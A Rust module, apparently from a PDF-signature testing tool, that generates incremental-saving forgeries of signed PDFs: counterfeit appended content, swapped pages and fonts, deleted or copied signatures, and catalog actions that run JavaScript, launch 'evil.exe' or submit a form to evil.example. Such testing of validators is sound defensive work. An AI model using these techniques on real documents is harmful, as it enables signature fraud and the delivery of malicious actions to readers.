// Incremental saving: anyone with a signed file appends what a viewer shows instead.

use super::{
    Attack, INCREMENTAL_SAVING, Victim,
    pdf::{CATALOG, CONTENT, COUNTERFEIT, FONT, Finish, PAGE, PAGES, append, free, object, signature, update, with},
};

pub(super) fn add(victim: &Victim<'_>, attacks: &mut Vec<Attack>) {
    let mut attack = |variant: String, pdf| attacks.push(Attack::new(INCREMENTAL_SAVING, variant, pdf));
    for (level, pdf) in [("B-B", &victim.signed), ("B-T", &victim.stamped), ("B-LTA", &victim.archived)] {
        let counterfeit = [(CONTENT, COUNTERFEIT.to_owned())];
        for finish in [
            Finish::Whole,
            Finish::WithoutTable,
            Finish::WithoutTrailer,
            Finish::Bare,
            Finish::EmptyTable,
            Finish::OldTable,
        ] {
            attack(format!("content of {level}, {finish:?}"), append(pdf, &counterfeit, finish, ""));
        }
        // The published variant with a copy of the signature, for viewers that check each one they meet.
        let copied = [(CONTENT, COUNTERFEIT.to_owned()), (free(pdf), object(pdf, signature(pdf)))];
        attack(format!("content of {level} with a copy of the signature"), update(pdf, &copied));
    }
    let pdf = &victim.stamped;
    for (what, objects) in replaced(pdf) {
        attack(what.to_owned(), update(pdf, &objects));
    }
    let catalog = object(pdf, CATALOG);
    for (what, entry) in CATALOG_ADDITIONS {
        attack(format!("the catalog gets {what}"), update(pdf, &[(CATALOG, with(&catalog, entry))]));
    }
    attack("another catalog".to_owned(), append(pdf, &[(free(pdf), catalog.clone())], Finish::Whole, ""));
    attack("the catalog again, unchanged".to_owned(), update(pdf, &[(CATALOG, catalog.clone())]));
    attack("nothing at all".to_owned(), update(pdf, &[]));
    attack("an unreferenced object".to_owned(), update(pdf, &[(free(pdf), COUNTERFEIT.to_owned())]));
    attack(
        "information about the document".to_owned(),
        append(
            pdf,
            &[(free(pdf), "<< /Title (Counterfeit) >>".to_owned())],
            Finish::Whole,
            &format!("/Info {} 0 R", free(pdf)),
        ),
    );
}

fn replaced(pdf: &[u8]) -> Vec<(&'static str, Vec<(u32, String)>)> {
    let (page, free) = (object(pdf, PAGE), free(pdf));
    let counterfeit = || (free, COUNTERFEIT.to_owned());
    let one = |number, value: String| vec![(number, value)];
    vec![
        ("the page shows new content", vec![(PAGE, page.replace("4 0 R", &format!("{free} 0 R"))), counterfeit()]),
        (
            "the page shows additional content",
            vec![(PAGE, page.replace("/Contents 4 0 R", &format!("/Contents [4 0 R {free} 0 R]"))), counterfeit()],
        ),
        ("the page is turned", one(PAGE, with(&page, "/Rotate 180"))),
        ("the page is cropped", one(PAGE, with(&page, "/CropBox [0 0 9 9]"))),
        ("the page is enlarged", one(PAGE, page.replace("[0 0 595 842]", "[0 0 5950 8420]"))),
        ("the page has an action", one(PAGE, with(&page, "/AA << /O << /S /JavaScript /JS (app.alert\\(1\\)) >> >>"))),
        ("the page has transparency", one(PAGE, with(&page, "/Group << /S /Transparency /CS /DeviceRGB >>"))),
        ("the page is empty", one(PAGE, page.replace("/Contents 4 0 R", ""))),
        (
            "a page is put in front",
            vec![
                (PAGES, format!("<< /Type /Pages /Kids [{free} 0 R 3 0 R] /Count 2 >>")),
                (free, "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>".to_owned()),
            ],
        ),
        ("the page is removed", one(PAGES, "<< /Type /Pages /Kids [] /Count 0 >>".to_owned())),
        ("the page is there twice", one(PAGES, "<< /Type /Pages /Kids [3 0 R 3 0 R] /Count 2 >>".to_owned())),
        ("the font is another", one(FONT, "<< /Type /Font /Subtype /Type1 /BaseFont /Symbol >>".to_owned())),
        (
            "the font maps letters to others",
            one(
                FONT,
                "<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /Encoding << /Differences [65 /B /A] >> >>"
                    .to_owned(),
            ),
        ),
        (
            "the font draws what the attacker likes",
            vec![
                (
                    FONT,
                    format!(
                        "<< /Type /Font /Subtype /Type3 /FontBBox [0 0 9 9] /FontMatrix [1 0 0 1 0 0] /CharProcs << /a {free} 0 R >> /Encoding << /Differences [67 /a] >> /FirstChar 67 /LastChar 67 /Widths [9] >>"
                    ),
                ),
                counterfeit(),
            ],
        ),
        (
            "the text says other characters than it shows",
            one(FONT, "<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /ToUnicode 4 0 R >>".to_owned()),
        ),
        ("the content is deleted", one(CONTENT, "null".to_owned())),
        ("the signature is deleted", one(signature(pdf), "null".to_owned())),
        ("the signature is another object", one(signature(pdf), "<< /Type /Sig >>".to_owned())),
        ("the form is taken away", one(CATALOG, object(pdf, CATALOG).replace("/AcroForm", "/AcroFurm"))),
        ("the permissions are taken away", one(CATALOG, object(pdf, CATALOG).replace("/Perms", "/Permz"))),
        (
            "form and permissions are taken away",
            one(CATALOG, object(pdf, CATALOG).replace("/Perms", "/Permz").replace("/AcroForm", "/AcroFurm")),
        ),
    ]
}

/// Entries of a catalog that run, send, hide or show something.
const CATALOG_ADDITIONS: [(&str, &str); 24] = [
    ("a script that runs at once", "/OpenAction << /S /JavaScript /JS (app.alert\\(1\\)) >>"),
    ("an address that is opened at once", "/OpenAction << /S /URI /URI (https://evil.example/) >>"),
    ("a program that is started", "/OpenAction << /S /Launch /F (evil.exe) >>"),
    ("another file that is opened", "/OpenAction << /S /GoToR /F (evil.pdf) /D [0 /Fit] >>"),
    ("an embedded file that is opened", "/OpenAction << /S /GoToE /T << /R /C /N (evil.pdf) >> /D [0 /Fit] >>"),
    ("a form that is sent", "/OpenAction << /S /SubmitForm /F (https://evil.example/) >>"),
    ("data that is imported", "/OpenAction << /S /ImportData /F (evil.fdf) >>"),
    ("layers that are hidden", "/OpenAction << /S /Hide /T (Seal) >>"),
    ("a chain of actions", "/OpenAction << /S /Named /N /NextPage /Next << /S /URI /URI (https://evil.example/) >> >>"),
    ("a script before it is closed", "/AA << /WC << /S /JavaScript /JS (app.alert\\(1\\)) >> >>"),
    ("a script before it is printed", "/AA << /WP << /S /JavaScript /JS (app.alert\\(1\\)) >> >>"),
    ("layers", "/OCProperties << /OCGs [] /D << /BaseState /OFF >> >>"),
    ("metadata", "/Metadata 4 0 R"),
    ("bookmarks", "/Outlines << /Type /Outlines /Count 0 >>"),
    ("page labels", "/PageLabels << /Nums [0 << /P (Counterfeit) >>] >>"),
    ("preferences", "/ViewerPreferences << /HideToolbar true >>"),
    ("a page mode", "/PageMode /FullScreen"),
    ("a base address", "/URI << /Base (https://evil.example/) >>"),
    ("a portfolio", "/Collection << /Type /Collection /View /T >>"),
    ("a structure", "/StructTreeRoot << /Type /StructTreeRoot >>"),
    ("requirements", "/Requirements [<< /Type /Requirement /S /EnableJavaScripts >>]"),
    ("legal attestations", "/Legal << /JavaScriptActions 0 /Attestation (Trust me) >>"),
    ("threads", "/Threads []"),
    ("a later version", "/Version /2.0"),
];
